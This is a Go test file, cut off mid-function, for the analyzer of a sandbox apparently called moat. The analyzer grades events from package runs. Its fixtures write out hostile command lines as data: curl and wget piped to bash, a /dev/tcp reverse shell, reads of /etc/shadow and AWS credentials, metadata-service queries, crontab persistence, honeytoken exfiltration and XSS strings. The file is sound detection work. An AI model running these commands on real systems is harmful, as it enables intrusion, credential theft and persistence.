package report

import (
	"bytes"
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/moat-sandbox/moat"
)

func planted(id, value, where string) moat.Event {
	return moat.Event{Source: "moat", Kind: "honeytoken-planted", Name: id, Data: value, Path: where}
}

const secret = "Q7hZk2mVfP9xLr4TnW8bYc3JdS6gHa1Ee5uKo0Ri"

// hello3 is the hook's hello of pid 3.
var hello3 = moat.Event{Source: "audit", Kind: "hello", PID: 3, Path: "/usr/bin/python3"}

func TestAnalyze(t *testing.T) {
	t.Parallel()
	tok := planted("aws-secret-access-key", secret, "/home/sandbox/.aws/credentials")
	netrc := planted("netrc-password", "n3trcS3cretValue0000", "/home/sandbox/.netrc")
	cases := []struct {
		name string
		evs  []moat.Event
		cat  moat.Category
		sev  moat.Severity // "" means: no finding of cat at all
	}{
		{"honeytoken read", []moat.Event{tok, {Source: "audit", Kind: "open", Path: "/home/sandbox/.aws/credentials", PID: 3}}, moat.CategoryCredentialAccess, "high"},
		{"netrc read alone (requests, pip)", []moat.Event{netrc, {Source: "audit", Kind: "open", Path: "/home/sandbox/.netrc", PID: 3}}, moat.CategoryCredentialAccess, "low"},
		{"netrc read in a sweep", []moat.Event{netrc, tok, {Source: "audit", Kind: "open", Path: "/home/sandbox/.netrc", PID: 3},
			{Source: "audit", Kind: "open", Path: "/home/sandbox/.aws/credentials", PID: 3}}, moat.CategoryCredentialAccess, "high"},
		{"token sent by the network sink", []moat.Event{tok, {Source: "network", Kind: "http", Addr: "1.2.3.4:80", Data: "POST /x\r\n\r\nk=" + secret}}, moat.CategoryExfiltration, "critical"},
		{"token in a file written", []moat.Event{tok, {Source: "fs", Kind: "honeytoken-written", Path: "/work/x", Name: "aws-secret-access-key", Detail: "hex"}}, moat.CategoryExfiltration, "critical"},
		{"shell reading stdin", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/bash", PID: 4}}, moat.CategoryExecution, "medium"},
		// ports opened (session 23)
		{"a test server on loopback", []moat.Event{hello3, {Source: "kernel", Kind: "listener", Name: "listen", Addr: "127.0.0.1:0", PID: 3, TimeMS: 10}}, moat.CategoryNetwork, ""},
		{"a test server on loopback, no evasion", []moat.Event{hello3, {Source: "kernel", Kind: "listener", Name: "listen", Addr: "127.0.0.1:0", PID: 3, TimeMS: 10}}, moat.CategoryEvasion, ""},
		{"a listen on every address", []moat.Event{{Source: "kernel", Kind: "listener", Name: "listen", Addr: "0.0.0.0:4444", PID: 3}}, moat.CategoryNetwork, "medium"},
		{"a suite's server on every address, a port the kernel chose", []moat.Event{{Source: "kernel", Kind: "listener", Name: "listen", Addr: "[::]:0", PID: 3}}, moat.CategoryNetwork, "low"},
		{"a listen of a socket not seen bound", []moat.Event{{Source: "kernel", Kind: "listener", Name: "listen", PID: 3}}, moat.CategoryNetwork, "medium"},
		{"a UDP port bound on an interface", []moat.Event{{Source: "kernel", Kind: "listener", Name: "bind", Addr: "10.0.0.2:5005", PID: 3}}, moat.CategoryNetwork, "medium"},
		{"the hook's bind, no kernel listen", []moat.Event{hello3, {Source: "audit", Kind: "listener", Name: "bind", Addr: "0.0.0.0:40001", PID: 3, TimeMS: 5}}, moat.CategoryNetwork, ""},
		{"the hook's bind, no kernel witness", []moat.Event{hello3, {Source: "moat", Kind: "kernel-events-unavailable"},
			{Source: "audit", Kind: "listener", Name: "bind", Addr: "0.0.0.0:4444", PID: 3, TimeMS: 5}}, moat.CategoryNetwork, "medium"},
		{"a listen past the hook", []moat.Event{hello3, {Source: "kernel", Kind: "listener", Name: "listen", Addr: "0.0.0.0:4445", PID: 3, TimeMS: 10}}, moat.CategoryEvasion, "high"},
		{"a listen the hook saw bound", []moat.Event{hello3, {Source: "audit", Kind: "listener", Name: "bind", Addr: "0.0.0.0:4444", PID: 3, TimeMS: 9},
			{Source: "kernel", Kind: "listener", Name: "listen", Addr: "0.0.0.0:4444", PID: 3, TimeMS: 10}}, moat.CategoryEvasion, ""},
		{"a bind shell, its stdio unnamed (gVisor)", []moat.Event{{Source: "kernel", Kind: "listener", Name: "listen", Addr: "0.0.0.0:4444", PID: 3, TimeMS: 10},
			{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh", PID: 4, PPID: 3, TimeMS: 20}}, moat.CategoryExecution, "critical"},
		{"the hook's bind of a source address, then code piped to python (tornado)", []moat.Event{hello3,
			{Source: "audit", Kind: "listener", Name: "bind", Addr: "8.8.8.8:0", Detail: "bind", PID: 3, TimeMS: 5},
			{Source: "kernel", Kind: "exec", Path: "/work/.venv/bin/python", Detail: "/work/.venv/bin/python -Werror::DeprecationWarning", PID: 4, PPID: 3, TimeMS: 20}}, moat.CategoryExecution, ""},
		{"the hook's bind, then a shell reading stdin, no kernel witness", []moat.Event{hello3, {Source: "moat", Kind: "kernel-events-unavailable"},
			{Source: "audit", Kind: "listener", Name: "bind", Addr: "0.0.0.0:4444", PID: 3, TimeMS: 5},
			{Source: "audit", Kind: "exec", Path: "/bin/sh", Detail: "sh", PID: 3, TimeMS: 20}}, moat.CategoryExecution, "critical"},
		{"a suite's server on every address, a port the kernel chose, then code piped to python", []moat.Event{{Source: "kernel", Kind: "listener", Name: "listen", Addr: "[::]:0", PID: 3, TimeMS: 10},
			{Source: "kernel", Kind: "exec", Path: "/usr/bin/python3", Detail: "/usr/bin/python3", PID: 4, PPID: 3, TimeMS: 20}}, moat.CategoryExecution, ""},
		{"a shell on the socket of a port the kernel chose", []moat.Event{{Source: "kernel", Kind: "listener", Name: "listen", Addr: "[::]:0", PID: 3, TimeMS: 10},
			{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh", Stdio: "0,1,2", PID: 4, PPID: 3, TimeMS: 20}}, moat.CategoryExecution, "critical"},
		{"a bind shell, its stdio unnamed, a socket not seen bound", []moat.Event{{Source: "kernel", Kind: "listener", Name: "listen", PID: 3, TimeMS: 10},
			{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh", PID: 4, PPID: 3, TimeMS: 20}}, moat.CategoryExecution, "critical"},
		{"a shell reading stdin after a loopback server", []moat.Event{{Source: "kernel", Kind: "listener", Name: "listen", Addr: "127.0.0.1:8000", PID: 3, TimeMS: 10},
			{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh", PID: 4, PPID: 3, TimeMS: 20}}, moat.CategoryExecution, "medium"},
		{"interactive shell", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/bash", Detail: "bash -i", PID: 4}}, moat.CategoryExecution, "high"},
		{"a test that runs echo", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c echo hello", PID: 4}}, moat.CategoryExecution, "low"},
		{"curl piped to a shell", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c curl -A O -o- -L http://39.107.154.72/env | bash -s", PID: 4}}, moat.CategoryExecution, "critical"},
		{"wget -O- piped to bash", []moat.Event{{Source: "audit", Kind: "exec", Path: "/bin/sh", Detail: "sh -c wget -q -O- http://x.example/a|bash", PID: 4}}, moat.CategoryExecution, "critical"},
		{"a download made executable and run (secretslib)", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c sudo apt -y install wget cpulimit > /dev/null 2>&1 && wget -q http://5.161.57.250/tox && chmod +x ./tox && timeout -k 5s 1h sudo ./tox", PID: 4}}, moat.CategoryExecution, "high"},
		{"a download chmod 777 and run by bash (maratlib)", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c wget https://x.example/a.sh -O /tmp/a.sh && chmod 777 /tmp/a.sh && bash /tmp/a.sh", PID: 4}}, moat.CategoryExecution, "high"},
		{"a download made readable only", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c curl -sO https://x.example/data.csv && chmod 644 data.csv && ./report.py", PID: 4}}, moat.CategoryExecution, "low"},
		{"a download with no chmod", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c curl -sO https://x.example/tool.tar.gz && tar xzf tool.tar.gz", PID: 4}}, moat.CategoryExecution, "low"},
		{"base64 piped to bash", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c echo aWQK|base64 -d|bash", PID: 4}}, moat.CategoryExecution, "high"},
		{"/dev/tcp", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/bash", Detail: "bash -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", PID: 4}}, moat.CategoryExecution, "critical"},
		{"shell with stdio on a socket", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh", Stdio: "0,1,2", PID: 4}}, moat.CategoryExecution, "critical"},
		{"a failed exec with its stdio on a socket (reqwestss)", []moat.Event{{Source: "kernel", Kind: "exec-failed", Path: "/tmp/b'/bin/bash'", Detail: "b'/bin/bash' -i", Stdio: "0,1,2", PID: 14, PPID: 13}}, moat.CategoryExecution, "high"},
		{"connect in the parent, shell in the child", []moat.Event{
			{Source: "kernel", Kind: "connect", Addr: "13.93.28.37:8888", PID: 7, TimeMS: 1},
			{Source: "kernel", Kind: "exec", Path: "/bin/bash", Detail: "/bin/bash", PID: 8, PPID: 7, TimeMS: 3}}, moat.CategoryExecution, "critical"},
		{"connect in an unrelated process", []moat.Event{
			{Source: "kernel", Kind: "connect", Addr: "13.93.28.37:8888", PID: 7, TimeMS: 1},
			{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c ls", PID: 8, PPID: 2, TimeMS: 3}}, moat.CategoryExecution, "low"},
		{"metadata service in a command", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/usr/bin/curl", Detail: "curl http://169.254.169.254/latest/meta-data/", PID: 4}}, moat.CategoryCredentialAccess, "high"},
		{"metadata service connect", []moat.Event{{Source: "kernel", Kind: "connect", Addr: "169.254.169.254:80", PID: 4}}, moat.CategoryCredentialAccess, "high"},
		{"metadata name looked up", []moat.Event{{Source: "audit", Kind: "dns", Name: "metadata.google.internal", PID: 4}}, moat.CategoryCredentialAccess, "high"},
		{"cat /etc/shadow", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/cat", Detail: "cat /etc/shadow", PID: 4}}, moat.CategoryCredentialAccess, "high"},
		{"cat ~/.aws/credentials in a shell", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c cat ~/.aws/credentials", PID: 4}}, moat.CategoryCredentialAccess, "high"},
		{"crontab", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c echo '* * * * * python x' | crontab -", PID: 4}}, moat.CategoryPersistence, "high"},
		{"crontab from a file", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/usr/bin/crontab", Detail: "crontab /tmp/.job", PID: 4}}, moat.CategoryPersistence, "high"},
		{"a job copied into cron.d", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c cp /tmp/j /etc/cron.d/update", PID: 4}}, moat.CategoryPersistence, "high"},
		{"a job appended to the spool", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c echo '@reboot x' >> /var/spool/cron/crontabs/root", PID: 4}}, moat.CategoryPersistence, "high"},
		{"reading the crontab installs nothing", []moat.Event{
			{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c cat /etc/crontab", PID: 4},
			{Source: "kernel", Kind: "exec", Path: "/bin/cat", Detail: "cat /etc/crontab", PID: 5, PPID: 4},
			{Source: "kernel", Kind: "exec", Path: "/usr/bin/crontab", Detail: "crontab -l", PID: 6},
			{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c curl http://x.example/cron?data=%23+%2Fetc%2Fcrontab%3A+system-wide+crontab", PID: 7}}, moat.CategoryPersistence, ""},
		{"pip's probes are not findings", []moat.Event{
			{Source: "audit", Kind: "exec", Path: "lsb_release", Detail: "lsb_release -a", PID: 10},
			{Source: "kernel", Kind: "exec", Path: "/usr/bin/lsb_release", Detail: "lsb_release -a", PID: 11, PPID: 10},
			{Source: "kernel", Kind: "exec", Path: "/usr/bin/getopt", Detail: "getopt --name lsb_release -o hvidrcas -- -a", PID: 12, PPID: 11},
			{Source: "kernel", Kind: "exec", Path: "/usr/bin/uname", Detail: "uname -rs", PID: 13, PPID: 10},
			{Source: "kernel", Kind: "exec", Path: "/usr/bin/cut", Detail: "cut -c1", PID: 15, PPID: 14, Ancestors: "11,10"}}, moat.CategoryExecution, ""},
		{"a probe put first on PATH is the program's", []moat.Event{
			{Source: "kernel", Kind: "exec", Path: "/work/.venv/bin/lsb_release", Detail: "lsb_release -a", PID: 11, PPID: 10},
			{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "sh -c cat /etc/shadow", PID: 12, PPID: 11}}, moat.CategoryExecution, "high"},
		{"moat's launcher is not a finding", []moat.Event{
			{Source: "moat", Kind: "exec", Path: "/usr/bin/sh", Detail: "moat's launcher: /usr/bin/sh -c sh -i", PID: 2},
			{Source: "audit", Kind: "exec", Path: "/usr/bin/sh", Detail: "/usr/bin/sh -c sh -i", PID: 2}}, moat.CategoryExecution, ""},
		{"a binary named python that is not the interpreter", []moat.Event{
			{Source: "moat", Kind: "interpreter", Path: "/usr/bin/python3.11", SHA256: "aa"},
			{Source: "kernel", Kind: "exec", Path: "/usr/local/bin/python3", SHA256: "bb", PID: 4}}, moat.CategoryExecution, "low"},
		{"the interpreter by its hash", []moat.Event{
			{Source: "moat", Kind: "interpreter", Path: "/usr/bin/python3.11", SHA256: "aa"},
			{Source: "kernel", Kind: "exec", Path: "/work/.venv/bin/python", SHA256: "aa", PID: 4}}, moat.CategoryExecution, ""},
		{"a dropped binary named python", []moat.Event{
			{Source: "moat", Kind: "interpreter", Path: "/usr/bin/python3.11", SHA256: "aa"},
			{Source: "kernel", Kind: "exec", Path: "/tmp/python3", SHA256: "cc", PID: 4}}, moat.CategoryExecution, "high"},
		{"a dropped file that failed to run", []moat.Event{
			{Source: "audit", Kind: "write", Path: "/tmp/.cache-update", PID: 1},
			{Source: "kernel", Kind: "exec-failed", Path: "/tmp/.cache-update", Detail: "/tmp/.cache-update", PID: 2, PPID: 1}}, moat.CategoryExecution, "high"},
		{"a failed exec of a file the run did not write", []moat.Event{
			{Source: "kernel", Kind: "exec-failed", Path: "/tmp/missing", Detail: "missing", PID: 2}}, moat.CategoryExecution, ""},
		{"kernel events dropped", []moat.Event{{Source: "moat", Kind: "events", Name: "kernel", Detail: "exec-failed 5000"}}, moat.CategoryEvasion, "medium"},
		{"a flood of failing execs", floodFailed(60), moat.CategoryEvasion, "medium"},
		{"the sink's dropped events, searched", []moat.Event{{Source: "network", Kind: "events", Detail: "1100 network events over their budgets; Data: what they carried, joined"}}, moat.CategoryNetwork, ""},
		{"the sink flooded past its overflow", []moat.Event{{Source: "network", Kind: "events", Detail: "5000 network events over their budgets; 9000 bytes more cut: a flood"}}, moat.CategoryEvasion, "medium"},
		{"a PATH search", floodFailed(3), moat.CategoryEvasion, ""},
		{"python child is fine", []moat.Event{{Source: "kernel", Kind: "exec", Path: "/usr/bin/python3", PID: 4}}, moat.CategoryExecution, ""},
		{"domain fronting (important-package)", []moat.Event{{Source: "network", Kind: "connect", Addr: "198.18.0.1:443", Name: "pypi.org",
			Detail: "sinkholed tcp tls sni=pypi.org decrypted https POST host=psec.forward.io.global.prod.fastly.net"}}, moat.CategoryEvasion, "high"},
		{"the TLS name's own Host, with a port and in capitals", []moat.Event{{Source: "network", Kind: "connect", Addr: "198.18.0.1:443", Name: "pypi.org",
			Detail: "sinkholed tcp tls sni=pypi.org decrypted https GET host=PyPI.org:443"}}, moat.CategoryEvasion, ""},
		{"loopback is fine", []moat.Event{{Source: "kernel", Kind: "connect", Addr: "127.0.0.1:8080", PID: 4}}, moat.CategoryNetwork, ""},
		{"a lookup through the resolver the sink answered", []moat.Event{
			{Source: "kernel", Kind: "connect", Addr: "10.255.255.53:53", PID: 4},
			{Source: "audit", Kind: "connect", Addr: "10.255.255.53:53", PID: 4},
			{Source: "network", Kind: "dns", Addr: "10.255.255.53:53", Name: "example.org", Detail: "sinkholed A 198.18.0.1"}}, moat.CategoryNetwork, "low"},
		{"a private address with no network (requests' TARPIT, 10.255.255.1)", []moat.Event{
			{Source: "kernel", Kind: "connect", Addr: "10.255.255.1:80", PID: 4},
			{Source: "audit", Kind: "connect", Addr: "10.255.255.1:80", PID: 4}}, moat.CategoryNetwork, "low"},
		{"a reserved address with no network (urllib3's TARPIT_HOST, 240.0.0.0)", []moat.Event{
			{Source: "kernel", Kind: "connect", Addr: "240.0.0.0:80", PID: 4},
			{Source: "audit", Kind: "connect", Addr: "240.0.0.0:80", PID: 4}}, moat.CategoryNetwork, "low"},
		{"a reserved address the sink answered", []moat.Event{
			{Source: "kernel", Kind: "connect", Addr: "240.0.0.0:80", PID: 4},
			{Source: "network", Kind: "connect", Addr: "240.0.0.0:80", Detail: "sinkholed tcp http GET host=240.0.0.0"}}, moat.CategoryNetwork, "medium"},
		{"a private address the sink answered", []moat.Event{
			{Source: "kernel", Kind: "connect", Addr: "10.255.255.1:80", PID: 4},
			{Source: "network", Kind: "connect", Addr: "10.255.255.1:80", Detail: "sinkholed tcp http POST host=10.255.255.1"}}, moat.CategoryNetwork, "medium"},
		{"a public address with no network", []moat.Event{{Source: "kernel", Kind: "connect", Addr: "203.0.113.9:80", PID: 4}}, moat.CategoryNetwork, "medium"},
		{"port 53 the sink did not answer", []moat.Event{{Source: "kernel", Kind: "connect", Addr: "10.255.255.53:53", PID: 4}}, moat.CategoryNetwork, "medium"},
		{"pth without code", []moat.Event{{Source: "fs", Kind: "file-created", Path: "/work/v/x.pth", Data: "/some/dir"}}, moat.CategoryPersistence, ""},
		{"pth with code", []moat.Event{{Source: "fs", Kind: "file-created", Path: "/work/v/x.pth", Data: `/a\x0aimport os`}}, moat.CategoryPersistence, "high"},
		{"timeout", []moat.Event{{Source: "moat", Kind: "limit", Name: "timeout"}}, moat.CategoryResourceAbuse, "medium"},
		{"unmatched kernel exec in an audited process", []moat.Event{
			{Source: "audit", Kind: "hello", PID: 7, TimeMS: 1},
			{Source: "kernel", Kind: "exec", Path: "/bin/true", PID: 7, TimeMS: 5}}, moat.CategoryEvasion, "high"},
		{"matched kernel exec", []moat.Event{
			{Source: "audit", Kind: "hello", PID: 7, TimeMS: 1},
			{Source: "audit", Kind: "exec", Path: "true", PID: 7, TimeMS: 4},
			{Source: "kernel", Kind: "exec", Path: "/bin/true", PID: 8, TimeMS: 5}}, moat.CategoryEvasion, ""},
		{"vsock socket", []moat.Event{{Source: "kernel", Kind: "socket", Name: "AF_VSOCK", PID: 3}}, moat.CategoryNetwork, "high"},
		{"packet socket, audit hook only", []moat.Event{{Source: "audit", Kind: "socket", Name: "AF_PACKET", PID: 3}}, moat.CategoryNetwork, "high"},
		{"netlink sock_diag", []moat.Event{{Source: "kernel", Kind: "socket", Name: "AF_NETLINK", PID: 3}}, moat.CategoryNetwork, "medium"},
		{"netlink and alg", []moat.Event{{Source: "kernel", Kind: "socket", Name: "AF_NETLINK"}, {Source: "kernel", Kind: "socket", Name: "AF_ALG"}}, moat.CategoryNetwork, "high"},
		{"a shell's child execs bash, which execs Python (duc193): the hello is the later image's", []moat.Event{
			{Source: "kernel", Kind: "exec", Path: "/usr/bin/bash", Detail: "bash -c neofetch", PID: 15, TimeMS: 1554},
			{Source: "kernel", Kind: "exec", Path: "/work/.venv/bin/python", Detail: "python x.py", PID: 15, TimeMS: 1560},
			{Source: "audit", Kind: "hello", PID: 15, Path: "/work/.venv/bin/python", TimeMS: 1600}}, moat.CategoryEvasion, ""},
		{"ctypes execve soon after the hello, the hello's arrival late", []moat.Event{
			{Source: "kernel", Kind: "exec", Path: "/work/.venv/bin/python", PID: 15, TimeMS: 1560},
			{Source: "kernel", Kind: "exec", Path: "/bin/true", PID: 15, TimeMS: 1580},
			{Source: "audit", Kind: "hello", PID: 15, Path: "/work/.venv/bin/python", TimeMS: 1600}}, moat.CategoryEvasion, "high"},
		{"kernel exec of an unaudited process (a shell's child)", []moat.Event{
			{Source: "kernel", Kind: "exec", Path: "/bin/ls", PID: 9, TimeMS: 5}}, moat.CategoryEvasion, ""},
		{"getaddrinfo of localhost: libc's sorting connects to the answers (docker, ciprobe)", []moat.Event{
			{Source: "audit", Kind: "hello", PID: 18, TimeMS: 900},
			{Source: "audit", Kind: "dns", Name: "localhost", PID: 18, TimeMS: 980},
			{Source: "kernel", Kind: "connect", Addr: "127.0.0.1:80", PID: 18, TimeMS: 980},
			{Source: "kernel", Kind: "connect", Addr: "[::1]:80", PID: 18, TimeMS: 980}}, moat.CategoryEvasion, ""},
		{"getaddrinfo of localhost again, minutes later: the hook reports a name once a process (requests' suite on docker)", []moat.Event{
			{Source: "audit", Kind: "hello", PID: 19, TimeMS: 900},
			{Source: "audit", Kind: "dns", Name: "localhost", PID: 19, TimeMS: 2016},
			{Source: "kernel", Kind: "connect", Addr: "127.0.0.1:0", PID: 19, TimeMS: 4078},
			{Source: "kernel", Kind: "connect", Addr: "127.0.0.1:55517", PID: 19, TimeMS: 64081}}, moat.CategoryEvasion, ""},
		{"a lookup, then a connect through ctypes elsewhere", []moat.Event{
			{Source: "audit", Kind: "hello", PID: 18, TimeMS: 900},
			{Source: "audit", Kind: "dns", Name: "localhost", PID: 18, TimeMS: 980},
			{Source: "kernel", Kind: "connect", Addr: "203.0.113.9:4444", PID: 18, TimeMS: 980}}, moat.CategoryEvasion, "high"},
		{"a connect to loopback through ctypes with no lookup", []moat.Event{
			{Source: "audit", Kind: "hello", PID: 18, TimeMS: 900},
			{Source: "kernel", Kind: "connect", Addr: "127.0.0.1:80", PID: 18, TimeMS: 980}}, moat.CategoryEvasion, "high"},
		{"socket.connect((\"localhost\", port)): the hook names the host, the kernel its address (requests' suite)", []moat.Event{
			{Source: "audit", Kind: "hello", PID: 11, TimeMS: 900},
			{Source: "audit", Kind: "connect", Addr: "localhost:36679", PID: 11, TimeMS: 10302},
			{Source: "kernel", Kind: "connect", Addr: "127.0.0.1:36679", PID: 11, TimeMS: 10303}}, moat.CategoryEvasion, ""},
		{"a connect by name the sink resolved", []moat.Event{
			{Source: "audit", Kind: "hello", PID: 11, TimeMS: 900},
			{Source: "network", Kind: "dns", Name: "api.example", Detail: "sinkholed A 198.18.0.4", Addr: "127.0.0.53:53"},
			{Source: "audit", Kind: "connect", Addr: "api.example:443", PID: 11, TimeMS: 1000},
			{Source: "kernel", Kind: "connect", Addr: "198.18.0.4:443", PID: 11, TimeMS: 1001}}, moat.CategoryEvasion, ""},
		{"a connect by name, and a ctypes connect elsewhere on its port", []moat.Event{
			{Source: "audit", Kind: "hello", PID: 11, TimeMS: 900},
			{Source: "network", Kind: "dns", Name: "api.example", Detail: "sinkholed A 198.18.0.4", Addr: "127.0.0.53:53"},
			{Source: "audit", Kind: "connect", Addr: "api.example:443", PID: 11, TimeMS: 1000},
			{Source: "kernel", Kind: "connect", Addr: "203.0.113.9:443", PID: 11, TimeMS: 1001}}, moat.CategoryEvasion, "high"},
		{"a connect to localhost, and a ctypes connect to loopback on another port", []moat.Event{
			{Source: "audit", Kind: "hello", PID: 11, TimeMS: 900},
			{Source: "audit", Kind: "connect", Addr: "localhost:8080", PID: 11, TimeMS: 1000},
			{Source: "kernel", Kind: "connect", Addr: "127.0.0.1:9000", PID: 11, TimeMS: 1001}}, moat.CategoryEvasion, "high"},
		{"a message of gVisor's trace moat could not read", []moat.Event{
			{Source: "kernel", Kind: "trace", Name: "unreadable", PID: 4, Detail: "execve(0x1 /tmp/c"}}, moat.CategoryEvasion, "medium"},
	}
	for _, c := range cases {
		fs := Analyze(c.evs)
		var got moat.Severity
		for _, f := range fs {
			if f.Category == c.cat && f.Severity.Rank() > got.Rank() {
				got = f.Severity
			}
		}
		if got != c.sev {
			t.Errorf("%s: %s finding %q, want %q (%+v)", c.name, c.cat, got, c.sev, fs)
		}
	}
}

// Audit claims alone raise a finding but say so.
func TestAuditOnlyLabelled(t *testing.T) {
	t.Parallel()
	fs := Analyze([]moat.Event{planted("t", secret, "$T"), {Source: "audit", Kind: "dns", Name: secret + ".evil.example"}})
	if len(fs) == 0 || fs[0].Severity != "critical" || !strings.Contains(fs[0].Summary, "audit hook") {
		t.Fatalf("%+v", fs)
	}
}

func TestPhases(t *testing.T) {
	t.Parallel()
	fs := Analyze([]moat.Event{
		{Phase: "install", Source: "kernel", Kind: "exec", Path: "/bin/sh"},
		{Phase: "test", Source: "moat", Kind: "limit", Name: "timeout"},
	})
	if len(fs) != 2 || fs[0].Phase != "install" || fs[1].Phase != "test" {
		t.Fatalf("%+v", fs)
	}
}

func sample() *moat.Result {
	evs := []moat.Event{
		planted("aws-secret-access-key", secret, "/home/sandbox/.aws/credentials"),
		{TimeMS: 5, Source: "kernel", Kind: "connect", Addr: "203.0.113.9:4444", PID: 3},
		{TimeMS: 6, Source: "kernel", Kind: "exec", Path: "/bin/sh", PID: 3, Detail: `<script>alert(1)</script>`},
		{TimeMS: 7, Source: "audit", Kind: "open", Path: "/home/sandbox/.aws/credentials\"><img src=x onerror=alert(2)>", PID: 3},
	}
	return &moat.Result{Status: moat.StatusExited, Isolation: "native", Events: evs, Findings: Analyze(evs)}
}

func TestSARIF(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	if err := WriteSARIF(&b, sample(), SARIFOptions{Artifact: "evil.py", Version: "test"}); err != nil {
		t.Fatal(err)
	}
	var log map[string]any
	if err := json.Unmarshal(b.Bytes(), &log); err != nil {
		t.Fatal(err)
	}
	if log["version"] != "2.1.0" || !strings.Contains(log["$schema"].(string), "sarif") {
		t.Fatalf("header: %v %v", log["version"], log["$schema"])
	}
	runs := log["runs"].([]any)
	if len(runs) != 1 {
		t.Fatalf("%d runs", len(runs))
	}
	run := runs[0].(map[string]any)
	driver := run["tool"].(map[string]any)["driver"].(map[string]any)
	if driver["name"] != "moat" {
		t.Errorf("driver name %v", driver["name"])
	}
	ids := map[string]bool{}
	for _, r := range driver["rules"].([]any) {
		r := r.(map[string]any)
		id, _ := r["id"].(string)
		if id == "" || r["shortDescription"].(map[string]any)["text"] == "" {
			t.Errorf("rule without id or description: %v", r)
		}
		ids[id] = true
	}
	results := run["results"].([]any)
	if len(results) == 0 {
		t.Fatal("no results")
	}
	for _, r := range results {
		r := r.(map[string]any)
		if !ids[r["ruleId"].(string)] {
			t.Errorf("result names unknown rule %v", r["ruleId"])
		}
		switch r["level"] {
		case "error", "warning", "note":
		default:
			t.Errorf("level %v", r["level"])
		}
		if r["message"].(map[string]any)["text"] == "" {
			t.Error("empty message")
		}
		loc := r["locations"].([]any)[0].(map[string]any)["physicalLocation"].(map[string]any)["artifactLocation"].(map[string]any)
		if loc["uri"] != "evil.py" {
			t.Errorf("location %v", loc)
		}
	}
}

func TestHTMLEscapes(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	if err := WriteHTML(&b, sample(), HTMLOptions{Title: "moat run <b>x</b>"}); err != nil {
		t.Fatal(err)
	}
	s := b.String()
	for _, bad := range []string{"<script>alert", "<img src=x", "<b>x</b>", "http://", "https://"} {
		if strings.Contains(s, bad) {
			t.Errorf("page contains %q", bad)
		}
	}
	for _, want := range []string{"CRITICAL", "reverse shell", "203.0.113.9:4444", "&lt;script&gt;"} {
		if !strings.Contains(s, want) {
			t.Errorf("page lacks %q", want)
		}
	}
}

func TestSummary(t *testing.T) {
	t.Parallel()
	res := sample()
	res.Findings = append(res.Findings, moat.Finding{Category: moat.CategoryExecution, Severity: "low", Summary: "x\x1b[2Jy"})
	var b bytes.Buffer
	WriteSummary(&b, res)
	if strings.Contains(b.String(), "\x1b") || !strings.Contains(b.String(), "CRITICAL") {
		t.Errorf("%q", b.String())
	}
}

func FuzzAnalyze(f *testing.F) {
	f.Add("kernel", "exec", "/bin/sh", "1.2.3.4:5", "name", "data")
	f.Fuzz(func(t *testing.T, src, kind, p, addr, name, data string) {
		evs := []moat.Event{planted("t", secret, "/home/sandbox/.netrc"), {Source: moat.Source(src), Kind: moat.Kind(kind), Path: p, Addr: addr, Name: name, Data: data}}
		for _, f := range Analyze(evs) {
			if f.Severity.Rank() == 0 || len(f.Evidence) > maxEvidence {
				t.Fatalf("bad finding %+v", f)
			}
		}
	})
}

// floodFailed: n failing execs, each of another file (exec_flood.py).
func floodFailed(n int) []moat.Event {
	var evs []moat.Event
	for i := 0; i < n; i++ {
		evs = append(evs, moat.Event{Source: "kernel", Kind: "exec-failed", Path: fmt.Sprintf("/nonexistent/x%d", i), PID: 4, TimeMS: int64(i)})
	}
	return evs
}

// Every command line is judged, none deduplicated: the third shell
// command of a run is reported as the first is.
func TestEveryCommand(t *testing.T) {
	t.Parallel()
	fs := Analyze([]moat.Event{
		{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c echo hi", PID: 4, TimeMS: 1},
		{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c id", PID: 5, TimeMS: 2},
		{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c curl -s http://169.254.169.254/latest/meta-data/iam/", PID: 6, TimeMS: 3},
		{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c cat /etc/shadow", PID: 7, TimeMS: 4},
		{Source: "kernel", Kind: "exec", Path: "/bin/sh", Detail: "/bin/sh -c bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", PID: 8, TimeMS: 5},
	})
	var all strings.Builder
	for _, f := range fs {
		all.WriteString(string(f.Severity) + " " + f.Summary + "\n")
	}
